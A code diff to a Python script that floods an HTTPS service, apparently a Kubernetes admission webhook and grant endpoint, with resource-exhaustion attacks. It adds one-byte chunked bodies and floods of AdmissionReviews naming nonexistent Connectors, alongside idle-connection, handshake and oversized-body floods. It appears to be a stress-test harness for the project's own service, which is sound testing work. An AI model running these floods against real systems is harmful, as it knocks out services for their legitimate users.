@@ -11,6 +11,7 @@ import ssl
 import sys
 import time
 from collections import Counter
+from collections.abc import Callable
 
 IDLE = 2000
 """Connections that say nothing, at a time"""
@@ -19,6 +20,10 @@ HANDSHAKES_PER_SECOND = 30
 BODIES_PER_SECOND = 6
 """Each of 6.9 MB of 7, and held for as long as the other end lets it"""
 TOKENS_PER_SECOND = 60
+CHUNKS_PER_SECOND = 30
+"""Bodies of 128 KiB in chunks of one byte: 19 ms of the other end's time, where it reads them"""
+MISSING_PER_SECOND = 60
+"""Reviews that name sixteen Connectors which do not exist"""
 HOLD_SECONDS = 30.0
 CHUNK = 65536
 done: Counter[str] = Counter()
@@ -87,20 +92,41 @@ def made_up() -> str:
     return ".".join(base64.urlsafe_b64encode(part).decode().rstrip("=") for part in parts)
 
 
-async def send_tokens(host: str) -> None:
+def token_request() -> bytes:
+    body = b'{"connector": "default/pypi"}'
+    return head("/v1/grants", len(body), f"Authorization: Bearer {made_up()}\r\n") + body
+
+
+def missing_request() -> bytes:
+    named = ",".join(f"nowhere-{time.time_ns()}/c{number}" for number in range(16))
+    pod = {
+        "metadata": {"name": "p", "annotations": {"connectors.alauda.io/connector": named}},
+        "spec": {"containers": [{"name": "main", "image": "python"}]},
+    }
+    request = {
+        "uid": "1",
+        "operation": "CREATE",
+        "namespace": "eve",
+        "resource": {"group": "", "version": "v1", "resource": "pods"},
+        "object": pod,
+    }
+    review = {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request}
+    body = json.dumps(review).encode()
+    return head("/mutate", len(body)) + body
+
+
+async def ask_again(host: str, request: Callable[[], bytes], pause: float) -> None:
     """On one connection, until it ends."""
     with contextlib.suppress(OSError, asyncio.IncompleteReadError):
         reader, writer = await asyncio.open_connection(host, 443, ssl=TLS)
-        body = b'{"connector": "default/pypi"}'
         while True:
-            authorization = f"Authorization: Bearer {made_up()}\r\n"
-            writer.write(head("/v1/grants", len(body), authorization) + body)
+            writer.write(request())
             answer = await reader.readuntil(b"\r\n\r\n")
             fields = answer.lower().split(b"\r\n")
             length = next(field for field in fields if field.startswith(b"content-length:"))
             await reader.readexactly(int(length.partition(b":")[2]))
             done[f"answered {answer.split()[1].decode()}"] += 1
-            await asyncio.sleep(8 / TOKENS_PER_SECOND)
+            await asyncio.sleep(pause)
     done["ended"] += 1
 
 
@@ -113,11 +139,16 @@ async def tell() -> None:
 
 async def main(kind: str, host: str) -> None:
     unfinished = head("/mutate", 7_000_000) + b"[" * 6_900_000
+    chunked = (
+        b"POST /mutate HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" + b"1\r\n \r\n" * 21_800
+    )
     attacks = {
         "idle": lambda: at_a_rate(IDLE_PER_SECOND, IDLE, lambda: hold(host, tls=False)),
         "handshakes": lambda: at_a_rate(HANDSHAKES_PER_SECOND, IDLE, lambda: hold(host, tls=True)),
         "bodies": lambda: at_a_rate(BODIES_PER_SECOND, 120, lambda: hold(host, tls=True, begin=unfinished)),
-        "tokens": lambda: at_a_rate(8, 8, lambda: send_tokens(host)),
+        "chunks": lambda: at_a_rate(CHUNKS_PER_SECOND, 100, lambda: hold(host, tls=True, begin=chunked)),
+        "tokens": lambda: at_a_rate(8, 8, lambda: ask_again(host, token_request, 8 / TOKENS_PER_SECOND)),
+        "missing": lambda: at_a_rate(8, 8, lambda: ask_again(host, missing_request, 8 / MISSING_PER_SECOND)),
     }
     await asyncio.gather(tell(), attacks[kind]())
 
